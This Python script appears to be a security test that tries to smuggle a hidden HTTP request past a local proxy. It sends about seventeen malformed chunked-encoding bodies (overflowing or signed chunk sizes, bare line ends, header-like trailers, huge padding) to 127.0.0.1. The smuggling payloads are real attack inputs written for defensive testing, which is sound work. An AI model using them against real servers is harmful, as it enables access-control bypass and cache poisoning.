"""Hide a second request in the chunks: sizes that overflow, signs, extensions with line ends, trailers that are heads."""

# aims: outside
# control: none (there is no proxy outside of a session)
# seconds: 30
from attack import tried
from proxied import SITE, TCP, say

good = f"127.0.0.1:{SITE}"
hidden = f"GET /hidden HTTP/1.1\r\nHost: 127.0.0.1:{TCP}\r\n\r\n"
tried()
for body in (
    f"0\r\n\r\n{hidden}", f"0;x=\r\n\r\n{hidden}", f"0;\n{hidden}\r\n\r\n", f"10000000000000000\r\n{hidden}0\r\n\r\n", f"-0\r\n\r\n{hidden}",
    f"+0\r\n\r\n{hidden}", f"0x0\r\n\r\n{hidden}", f" 0\r\n\r\n{hidden}", f"0 \r\n\r\n{hidden}", f"0\n\n{hidden}", f"0\r\r{hidden}",
    f"1\r\naXX0\r\n\r\n{hidden}", f"0\r\nHost: 127.0.0.1:{TCP}\r\n\r\n", f"0\r\nContent-Length: {len(hidden)}\r\n\r\n{hidden}",
    f"000000000000000000000000\r\n\r\n{hidden}", f"0{' ' * 70000}\r\n\r\n{hidden}", f"0\r\nX: {'a' * 70000}\r\n\r\n{hidden}",
):  # fmt: skip
    say(f"POST http://{good}/ HTTP/1.1\r\nHost: {good}\r\nTransfer-Encoding: chunked\r\n\r\n{body}".encode())
